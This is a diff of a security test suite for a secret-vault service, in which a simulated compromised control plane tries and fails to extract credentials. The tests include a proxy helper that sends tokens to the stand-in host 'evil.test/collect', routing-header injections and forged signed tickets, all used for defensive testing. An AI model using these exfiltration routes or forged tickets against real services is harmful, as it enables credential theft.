@@ -1,20 +1,19 @@
 /**
- * The promise of the protocol's first section, played: the service is broken into. Whoever plays it here holds the
- * right key, signs whatever it likes, and must not get a plaintext credential that was not meant to leave.
+ * The table of PROTOCOL.md section 1: a compromised control plane has a valid key and signs anything, and must not get a
+ * plaintext credential that it may not have.
  */
 import { createHmac, generateKeyPairSync } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { type JWK, calculateJwkThumbprint, compactDecrypt, exportJWK, importJWK } from 'jose';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { ManualClock, newId, randomToken, utf8 } from '@svault/shared';
-import { SECRET_FIELD_NAMES } from '@svault/shared/schemas';
-import { tracesOf } from '@svault/test-kit/secret-forms';
-import { type Answer, type BoundWebhook, OWNER, boundWebhook } from './support/bound-webhook.ts';
+import { type BoundWebhook, OWNER, boundWebhook } from './support/bound-webhook.ts';
 import { attackByProxy } from './support/proxy-attack.ts';
 import { callProxy, putProxy } from './support/proxy-calls.ts';
 import { attackByMediation, attackByTokenUrl } from './support/refresh-attack.ts';
 import { command } from './support/run-webhook.ts';
 import { startUpstream } from './support/upstream.ts';
+import { observeAnswers, proxyTo } from './support/compromised-control-plane.ts';
 
 /** The first column of the table in shared/PROTOCOL.md. */
 const ROWS = [
@@ -37,10 +36,9 @@ const SENDABLE = 'the-canary-that-could-be-sent/+';
 const PROVIDER = { tokenUrl: 'https://provider.test/token', clientId: 'client', clientSecret: `${SECRET} c` };
 
 let webhook: BoundWebhook;
-/** Everything that the service was told in a test. */
-let told: string[];
+const answers = observeAnswers(() => webhook);
 beforeEach(async () => {
-  told = [];
+  answers.clear();
   webhook = await boundWebhook({
     clock: new ManualClock(Date.now()),
     env: { SV_EGRESS_ALLOW: '127.0.0.1/32' },
@@ -48,25 +46,15 @@ beforeEach(async () => {
 });
 afterEach(() => webhook.remove());
 
-async function ask(answer: Promise<Answer>): Promise<Answer> {
-  const { status, headers, text, json } = await answer;
-  told.push(text, JSON.stringify([...headers]));
-  return { status, headers, text, json };
-}
-const storage = (operation: object): Promise<Answer> => ask(webhook.storage(operation));
-const fetchIt = (name: string, claims: Parameters<BoundWebhook['credential']>[1] = {}): Promise<Answer> =>
-  ask(webhook.credential(name, claims));
-/** What the owner stores, from a browser or the CLI; the service does not see the body. */
+/** Stores as the owner, from a browser or the CLI; the control plane does not see the body. */
 async function owned(name: string, body: object): Promise<void> {
   expect(await webhook.store(name, body)).toMatchObject({ status: 200 });
 }
-const tracesSeen = (secret: string): readonly string[] => tracesOf(secret, Buffer.from(told.join('\n')));
-
-/** Subjects that a broken-in service may write into its tickets. */
+/** Subjects that a compromised control plane may write into its tickets. */
 const AGENT = newId('agt');
 const SUBJECTS = [OWNER, AGENT, newId('prx'), newId('usr')];
 
-const played: Record<Row, () => Promise<void>> = {
+const attacks: Record<Row, () => Promise<void>> = {
   'read a record through `/v1/storage`': async () => {
     await owned('plain', { tokenType: 'PlainText', value: SECRET });
     await owned('jwt', {
@@ -78,15 +66,15 @@ const played: Record<Row, () => Promise<void>> = {
     await owned('tls', { tokenType: 'Certificate', certificate: SECRET, privateKey: SECRET });
     await owned('raw', { tokenType: 'RawCredential', value: SECRET, delivery: 'proxy-only' });
     for (const serviceName of ['plain', 'jwt', 'tls', 'raw']) {
-      const { status, json } = await storage({ op: 'tokens.get', serviceName });
+      const { status, json } = await answers.storage({ op: 'tokens.get', serviceName });
       expect([status, json.serviceName]).toEqual([200, serviceName]);
       // Asking for more than there is: unknown members are ignored, secret names refused.
       for (const extra of [{ fields: ['*'] }, { include: 'secrets' }, { reveal: true }, { expand: ['body'] }])
-        expect((await storage({ op: 'tokens.get', serviceName, ...extra })).json).toEqual(json);
+        expect((await answers.storage({ op: 'tokens.get', serviceName, ...extra })).json).toEqual(json);
     }
-    await storage({ op: 'tokens.list', limit: 500 });
-    await storage({ op: 'tokens.list', expiresBefore: '2100-01-01T00:00:00Z' });
-    await storage({ op: 'audit.list' });
+    await answers.storage({ op: 'tokens.list', limit: 500 });
+    await answers.storage({ op: 'tokens.list', expiresBefore: '2100-01-01T00:00:00Z' });
+    await answers.storage({ op: 'audit.list' });
     for (const op of [
       'tokens.reveal',
       'tokens.export',
@@ -95,15 +83,15 @@ const played: Record<Row, () => Promise<void>> = {
       'credential.get',
       '__proto__',
     ])
-      expect((await storage({ op, serviceName: 'plain' })).json.code).toBe('INVALID_REQUEST');
-    expect((await storage({ op: 'proxies.put', ...proxyTo('plain') })).status).toBe(200);
-    await storage({ op: 'proxies.list' });
-    expect(tracesSeen(SECRET)).toEqual([]);
+      expect((await answers.storage({ op, serviceName: 'plain' })).json.code).toBe('INVALID_REQUEST');
+    expect((await answers.storage({ op: 'proxies.put', ...proxyTo('plain') })).status).toBe(200);
+    await answers.storage({ op: 'proxies.list' });
+    expect(answers.tracesOf(SECRET)).toEqual([]);
   },
 
   'send `${TOKEN}` to its own host, or in a header that routes': async () => {
-    told.push(...(await attackByProxy(webhook, SENDABLE)));
-    expect(tracesSeen(SENDABLE)).toEqual([]);
+    answers.add(await attackByProxy(webhook, SENDABLE));
+    expect(answers.tracesOf(SENDABLE)).toEqual([]);
   },
 
   'have an allowed host called by plain `http`, to read along': async () => {
@@ -124,10 +112,12 @@ const played: Record<Row, () => Promise<void>> = {
     const [host, said] = ['api.test', { allowShortSecret: true }];
     // Whatever it says itself, only the body of a store permits it, and that is the owner's.
     const claims = said as object;
-    const refused = await ask(webhook.store('pin', { ...short, allowedHosts: [host] }, claims));
+    const refused = await answers.ask(webhook.store('pin', { ...short, allowedHosts: [host] }, claims));
     expect([refused.status, refused.json.code]).toEqual([400, 'INVALID_REQUEST']);
     await owned('pin', { ...short, allowedHosts: [host], ...said });
-    expect((await storage({ op: 'tokens.get', serviceName: 'pin' })).text).not.toMatch(/short|482913/i);
+    expect((await answers.storage({ op: 'tokens.get', serviceName: 'pin' })).text).not.toMatch(
+      /short|482913/i,
+    );
   },
 
   'fetch a `proxy-only` record with a ticket it signed itself': async () => {
@@ -144,10 +134,10 @@ const played: Record<Row, () => Promise<void>> = {
         { rfp: 'auto' },
         { delivery: 'any' },
       ] as object[]) {
-        const refused = await fetchIt('proxied', { sub, ...more });
+        const refused = await answers.credential('proxied', { sub, ...more });
         expect(refused).toMatchObject({ status: 403, json: { code: 'DELIVERY_NOT_ALLOWED' } });
       }
-    expect(tracesSeen(SECRET)).toEqual([]);
+    expect(answers.tracesOf(SECRET)).toEqual([]);
   },
 
   'read a `sealed` record from `/v1/credential`': async () => {
@@ -165,19 +155,19 @@ const played: Record<Row, () => Promise<void>> = {
         { recipients: [attacker.jwk], cnf: { jkt: attacker.jkt } },
         { delivery: 'any' },
       ] as object[]) {
-        const refused = await fetchIt('sealed', { sub, ...more });
+        const refused = await answers.credential('sealed', { sub, ...more });
         expect(refused).toMatchObject({ status: 403, json: { code: 'DELIVERY_NOT_ALLOWED' } });
       }
       // It may ask for the envelope in anybody's name, with a key of its own beside the thumbprint.
       for (const cnf of [named.cnf, { ...named.cnf, jwk: attacker.jwk }]) {
-        const { status, headers, text } = await fetchIt('sealed', { sub, cnf });
+        const { status, headers, text } = await answers.credential('sealed', { sub, cnf });
         expect([status, headers.get('content-type')]).toEqual([200, 'application/jose']);
         await expect(compactDecrypt(text, attacker.privateKey)).rejects.toThrow();
         const { plaintext } = await compactDecrypt(text, recipient.privateKey);
         expect(Buffer.from(plaintext).toString()).toContain(SECRET);
       }
     }
-    expect(tracesSeen(SECRET)).toEqual([]);
+    expect(answers.tracesOf(SECRET)).toEqual([]);
   },
 
   'take a refresh token by a ticket that says `rfp: none`': async () => {
@@ -191,23 +181,23 @@ const played: Record<Row, () => Promise<void>> = {
           { rfp: 'auto' },
           { rfp: 'none', shareRefreshToken: true },
         ] as object[]) {
-          const { status, json } = await fetchIt(name, { sub, ...more });
+          const { status, json } = await answers.credential(name, { sub, ...more });
           expect([status, Object.keys(json.token)]).toEqual([
             200,
             expect.not.arrayContaining(['refreshToken']),
           ]);
         }
-    expect(tracesSeen(SECRET)).toEqual([]);
+    expect(answers.tracesOf(SECRET)).toEqual([]);
   },
 
   'make a refresh go to its own token URL': async () => {
-    told.push(...(await attackByTokenUrl(webhook, SENDABLE)));
-    expect(tracesSeen(SENDABLE)).toEqual([]);
+    answers.add(await attackByTokenUrl(webhook, SENDABLE));
+    expect(answers.tracesOf(SENDABLE)).toEqual([]);
   },
 
   'see tokens during a mediated refresh': async () => {
-    told.push(...(await attackByMediation(webhook, SENDABLE)));
-    expect(tracesSeen(SENDABLE)).toEqual([]);
+    answers.add(await attackByMediation(webhook, SENDABLE));
+    expect(answers.tracesOf(SENDABLE)).toEqual([]);
   },
 
   'hide what it did': async () => {
@@ -248,15 +238,15 @@ const played: Record<Row, () => Promise<void>> = {
   },
 };
 
-describe('a broken-in service that holds the right key tries to', () => {
-  for (const [row, play] of Object.entries(played)) test(row, play);
+describe('A compromised control plane with a valid key fails to', () => {
+  for (const [row, attack] of Object.entries(attacks)) test(row, attack);
 });
 
-test('every row of the table is played here', () => {
-  expect(Object.keys(played).toSorted()).toEqual([...ROWS].toSorted());
+test('Each row of the table has an attack', () => {
+  expect(Object.keys(attacks).toSorted()).toEqual([...ROWS].toSorted());
 });
 
-test('the rows are those of the protocol', () => {
+test('The rows are those of PROTOCOL.md section 1', () => {
   const text = readFileSync(new URL('../../shared/PROTOCOL.md', import.meta.url), 'utf8');
   const lines = text.split('\n');
   const start = lines.findIndex((line) => line.startsWith('| A broken-in service tries to'));
@@ -264,120 +254,7 @@ test('the rows are those of the protocol', () => {
   expect(table.map((line) => line.split('|')[1]?.trim())).toEqual(ROWS);
 });
 
-describe('what holds the rows that wait', () => {
-  test('no storage operation changes what is sealed', async () => {
-    const sealed = { delivery: 'proxy-only', allowedHosts: ['api.test'], allowedHeaders: ['x-key'] };
-    await owned('doc', { tokenType: 'PlainText', value: SECRET, ...sealed });
-    const open = { delivery: 'any', allowedHosts: ['evil.test'], allowedHeaders: ['host'] };
-    for (const op of [
-      'tokens.get',
-      'tokens.list',
-      'proxies.put',
-      'tokens.put',
-      'tokens.patch',
-      'tokens.update',
-    ])
-      await storage({ op, ...proxyTo('doc'), ...open });
-    expect((await storage({ op: 'tokens.get', serviceName: 'doc' })).json).toMatchObject(sealed);
-  });
-
-  test('a store without the secret changes nothing, so restrictions leave only with the secret', async () => {
-    const sealed = { delivery: 'proxy-only', allowedHosts: ['api.test'] };
-    await owned('doc', { tokenType: 'PlainText', value: SECRET, ...sealed });
-    for (const body of [
-      { tokenType: 'PlainText', delivery: 'any' },
-      { delivery: 'any' },
-      { tokenType: 'PlainText', value: null, delivery: 'any' },
-      { tokenType: 'JWT', allowedHosts: ['evil.test'] },
-    ])
-      expect(await ask(webhook.store('doc', body))).toMatchObject({ status: 400 });
-    // Its own secret it may store; nothing of the old record goes along.
-    await owned('doc', { tokenType: 'PlainText', value: 'its own' });
-    expect((await fetchIt('doc')).json.token.accessToken).toBe('its own');
-    expect(tracesSeen(SECRET)).toEqual([]);
-  });
-
-  test('a template may not set a header that routes', async () => {
-    for (const name of [
-      'host',
-      'Host',
-      'content-length',
-      'transfer-encoding',
-      'connection',
-      'sv-ticket',
-      'x-forwarded-host',
-    ])
-      expect([
-        name,
-        (await storage({ op: 'proxies.put', ...proxyTo('doc', { [name]: '${TOKEN}' }) })).status,
-      ]).toEqual([name, 400]);
-  });
-});
-
-describe('/v1/storage carries no secret', () => {
-  const event = { id: 'e', eventType: 'X', timestamp: '2026-01-01T00:00:00Z', outcome: 'success' };
-  const spellings = (name: string): readonly string[] => [name, name.toUpperCase(), name.toLowerCase()];
-
-  test.each(SECRET_FIELD_NAMES)('%s, at any depth and in any case', async (name) => {
-    for (const spelt of spellings(name))
-      for (const operation of [
-        { op: 'tokens.get', serviceName: 'a', [spelt]: SECRET },
-        { op: 'tokens.list', deep: { deeper: [[{ [spelt]: 1 }]] } },
-        { op: 'audit.append', events: [{ ...event, detail: { a: [{ [spelt]: SECRET }] } }] },
-        { op: 'proxies.put', ...proxyTo('a'), more: { headerTemplates: { [spelt]: SECRET } } },
-      ]) {
-        const refused = await storage(operation);
-        expect([spelt, refused.status, refused.json.code]).toEqual([spelt, 400, 'SECRET_FIELD']);
-        const { results } = (await storage({ batch: [operation, { op: 'tokens.list' }] })).json;
-        expect(results).toEqual([refused.json, { items: [] }]);
-      }
-    expect(tracesSeen(SECRET)).toEqual([]);
-    expect((await webhook.storage({ op: 'audit.list' })).json.items).not.toContainEqual(
-      expect.objectContaining({ source: 'service' }),
-    );
-  });
-
-  test('but headers of a proxy may be called like one', async () => {
-    const templates = { secret: 'x', Password: '${TOKEN}', 'x-value': 'y' };
-    const { status, json } = await storage({ op: 'proxies.put', ...proxyTo('a', templates) });
-    expect([status, json.headerTemplates]).toEqual([200, templates]);
-  });
-});
-
-describe('what it replaces or deletes', () => {
-  const restore = (name: string) => command(webhook.env, 'restore', name);
-  const valueOf = async (name: string): Promise<unknown> =>
-    (await webhook.credential(name)).json.token.accessToken;
-  const replaced = async (name: string): Promise<void> => {
-    await owned(name, { tokenType: 'PlainText', value: SECRET });
-    await owned(name, { tokenType: 'PlainText', value: 'its own' });
-  };
-
-  test('comes back by `restore NAME`, again and again', async () => {
-    await replaced('doc');
-    expect(await restore('doc')).toMatchObject({ code: 0 });
-    expect(await valueOf('doc')).toBe(SECRET);
-    expect((await storage({ op: 'tokens.delete', serviceName: 'doc' })).json).toEqual({ deleted: true });
-    expect((await fetchIt('doc')).status).toBe(404);
-    expect(await restore('doc')).toMatchObject({ code: 0 });
-    expect(await valueOf('doc')).toBe(SECRET);
-    expect((await storage({ op: 'tokens.get', serviceName: 'doc' })).json.version).toBe(4);
-  });
-
-  test('is kept for 7 days', async () => {
-    // The command runs by the machine's clock, so what it finds was replaced in the past.
-    await webhook.remove();
-    webhook = await boundWebhook({ clock: new ManualClock(Date.now() - 7 * 24 * 3_600_000 - 60_000) });
-    await replaced('too long ago');
-    webhook.clock.advance(120_000);
-    await replaced('just in time');
-    const [gone, kept] = await Promise.all([restore('too long ago'), restore('just in time')]);
-    expect([gone.code, kept.code]).toEqual([1, 0]);
-    expect(await valueOf('just in time')).toBe(SECRET);
-  });
-});
-
-test('keys, hosts and algorithms of its own choice in a ticket header are none', async () => {
+test('Keys, hosts and algorithms in a ticket header are ignored or rejected', async () => {
   await owned('doc', { tokenType: 'PlainText', value: SECRET });
   const [, payload = ''] = webhook.credentialTicket('doc').split('.');
   const attacker = await keyPair();
@@ -391,24 +268,12 @@ test('keys, hosts and algorithms of its own choice in a ticket header are none',
     const header = { alg: 'HS256', typ: 'sv-ticket+jwt', kid: webhook.key.id, ...extra };
     const input = `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${payload}`;
     const mac = createHmac('sha256', webhook.key.secret).update(utf8(input)).digest('base64url');
-    expect((await ask(webhook.send(`/v1/credential?ticket=${input}.${mac}`))).json.code).toBe(
+    expect((await answers.ask(webhook.send(`/v1/credential?ticket=${input}.${mac}`))).json.code).toBe(
       'TICKET_INVALID',
     );
   }
-  expect(tracesSeen(SECRET)).toEqual([]);
+  expect(answers.tracesOf(SECRET)).toEqual([]);
 });
-
-function proxyTo(
-  serviceName: string,
-  headerTemplates: Record<string, string> = { authorization: 'Bearer ${TOKEN}' },
-) {
-  return {
-    proxyId: 'prx_AAAAAAAAAAAAAAAAAAAAAA',
-    serviceName,
-    upstreamUrl: 'https://evil.test/collect',
-    headerTemplates,
-  };
-}
 
 async function keyPair(): Promise<{
   jwk: JWK;
